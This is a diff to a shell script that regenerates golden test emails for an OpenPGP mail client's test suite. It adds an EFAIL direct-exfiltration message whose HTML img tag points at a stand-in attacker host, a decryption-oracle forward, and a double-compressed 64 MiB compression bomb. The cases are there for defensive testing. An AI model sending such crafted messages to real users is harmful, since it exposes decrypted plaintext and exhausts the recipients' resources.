@@ -15,6 +15,10 @@
 # reported). After running this, bless the expectations with
 #   UPDATE_GOLDEN=1 cargo test --test golden_openpgp
 # and review the diff of cases/*.report and cases/*.out.
+#
+#   ONLY='efail-*' ./regenerate.sh   rebuild only the cases whose name matches
+#                                the glob; the other cases stay as they are
+#                                (their encryptions are not redone)
 set -euo pipefail
 export LC_ALL=C
 
@@ -77,10 +81,17 @@ crlf() { sed -e 's/\r$//' -e 's/$/\r/'; } # every line end to CRLF
 lf() { sed -e 's/\r$//'; }                 # every line end to LF
 strip_last_eol() { perl -0777 -pe 's/\r?\n\z//'; }
 
-rm -f "$cases"/*.eml
+ONLY=${ONLY:-}
+[ -n "$ONLY" ] || rm -f "$cases"/*.eml
 mkdir -p "$cases"
 # emit NAME [lf]: stdin (LF lines) -> cases/NAME.eml with CRLF (or LF) lines
+# (dropped when ONLY excludes NAME)
 emit() {
+  # shellcheck disable=SC2053
+  if [ -n "$ONLY" ] && [[ $1 != $ONLY ]]; then
+    cat >/dev/null
+    return
+  fi
   if [ "${2:-crlf}" = lf ]; then lf >"$cases/$1.eml"; else crlf >"$cases/$1.eml"; fi
 }
 
@@ -635,5 +646,46 @@ crlf <"$tmp/plain.txt" | g --store -z 0 >"$tmp/literal"
 { headers "$MALLORY_ADDR" "$DEMO_ADDR" "Encrypted, 5,000 copies of one signature by Mallory inside" \
     pgpmime-enc-mallory-5000-signature-copies
   pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-mallory-5000-signature-copies
+
+# --- ciphertext inside the attacker's message (issue 8) ----------------------
+# EFAIL direct exfiltration, PGP/MIME: a ciphertext the attacker captured,
+# between two HTML parts whose markup would carry the plaintext to his
+# server if a client decrypted the part in place and joined the parts.
+crlf <"$tmp/plain.txt" | encrypt "$tmp/c" -r "$DEMO"
+{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "EFAIL direct exfiltration (PGP/MIME)" efail-direct-exfiltration-pgpmime
+  printf 'Content-Type: multipart/mixed; boundary="------------efail-0123456789"\n\n'
+  printf -- '--------------efail-0123456789\nContent-Type: text/html; charset=us-ascii\n\n'
+  printf '<html><body><img src="http://efail.attacker.invalid/\n'
+  printf -- '--------------efail-0123456789\n'
+  pgpmime_encrypted "$tmp/c"
+  printf -- '--------------efail-0123456789\nContent-Type: text/html; charset=us-ascii\n\n'
+  printf '"></body></html>\n'
+  printf -- '--------------efail-0123456789--\n'; } | emit efail-direct-exfiltration-pgpmime
+
+# Decryption oracle: the demo user's own encrypted message, forwarded back
+# to him inside Mallory's mail, asking for a reply that would quote it.
+{ headers "$ALICE_ADDR" "$DEMO_ADDR" "The original encrypted message" oracle-original
+  pgpmime_encrypted "$tmp/c"; } >"$tmp/original.eml"
+{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "Fwd: please confirm" oracle-encrypted-message-forwarded
+  printf 'Content-Type: multipart/mixed; boundary="------------fwd-0123456789"\n\n'
+  printf -- '--------------fwd-0123456789\nContent-Type: text/plain; charset=us-ascii\n\n'
+  printf 'Could you confirm what the attached message says? Just reply with it quoted.\n'
+  printf -- '--------------fwd-0123456789\nContent-Type: message/rfc822\n\n'
+  cat "$tmp/original.eml"
+  printf -- '--------------fwd-0123456789--\n'; } | emit oracle-encrypted-message-forwarded
+
+# Compression bomb: 64 MiB of one repeated line, compressed twice (gpg
+# --store -z 9 makes compressed(literal); --no-literal encrypts that packet
+# as it is, compressed once more): a few kB of ciphertext.
+{ printf 'Content-Type: text/plain; charset=us-ascii\r\n\r\n'
+  perl -e '$l = "All work and no play makes Jack a dull boy. All work and no play.\r\n";
+            print $l x int((64 << 20) / length $l)'; } |
+  g --store -z 9 --compress-algo zlib >"$tmp/bomb-inner"
+g --no-literal --armor --encrypt -z 9 --compress-algo zlib -r "$DEMO" <"$tmp/bomb-inner" \
+  2> >(grep -v -- '--no-literal is not for normal use' >&2) >"$tmp/c"
+[ "$(g --list-packets <"$tmp/c" 2>/dev/null | grep -c ':compressed packet:')" = 2 ] ||
+  { echo "regenerate.sh: the compression bomb is not compressed twice" >&2; exit 1; }
+{ headers "$MALLORY_ADDR" "$DEMO_ADDR" "Encrypted, 64 MiB compressed twice into a few kB" pgpmime-enc-compression-bomb
+  pgpmime_encrypted "$tmp/c"; } | emit pgpmime-enc-compression-bomb
 
 echo "regenerated $(ls "$cases"/*.eml | wc -l) cases in $cases"
